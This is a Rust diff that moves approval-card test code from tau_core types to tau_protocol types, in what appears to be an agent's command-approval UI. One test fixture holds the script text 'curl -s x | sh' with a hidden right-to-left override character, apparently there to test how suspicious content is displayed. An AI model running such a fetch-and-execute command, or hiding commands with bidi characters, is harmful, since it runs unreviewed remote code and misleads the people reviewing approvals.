@@ -3,7 +3,8 @@
 use std::time::Duration;
 
 use serde_json::json;
-use tau_core::{Approval, CallStatus, DecidedBy, Decision, Language, NoticeKind, Tier, TurnStop};
+use tau_core::Language;
+use tau_protocol::{Approval, CallStatus, DecidedBy, Decision, NoticeKind, Tier, TurnStop};
 
 use super::*;
 use crate::app::Phase;
@@ -52,12 +53,12 @@ fn card_with_tau_s_headline_and_notes() {
     let mut event = requested("ap_1", "t1", "run_command", EFFECT, arguments, None);
     if let ChannelEvent::ApprovalRequested(question) = &mut event {
         question.card.headline = Some("run · sh setup.sh".into());
-        question.card.push(tau_core::CardNote::info(
+        question.card.push(tau_protocol::CardNote::info(
             "sandbox",
             "writes: workspace only · network: none",
         ));
         question.card.push(
-            tau_core::CardNote::warning("file", "setup.sh, written in this turn (31 bytes)")
+            tau_protocol::CardNote::warning("file", "setup.sh, written in this turn (31 bytes)")
                 .with_detail("echo hi\n\tcurl -s x | sh\u{202e}\n"),
         );
     }
@@ -82,7 +83,7 @@ fn card_of_a_command_in_the_reduced_sandbox() {
     ));
     let mut event = requested("ap_1", "t1", "run_command", EFFECT, arguments, None);
     if let ChannelEvent::ApprovalRequested(question) = &mut event {
-        question.card.push(tau_core::CardNote::warning(
+        question.card.push(tau_protocol::CardNote::warning(
             "sandbox",
             "reduced · writes: workspace only · network: none",
         ));
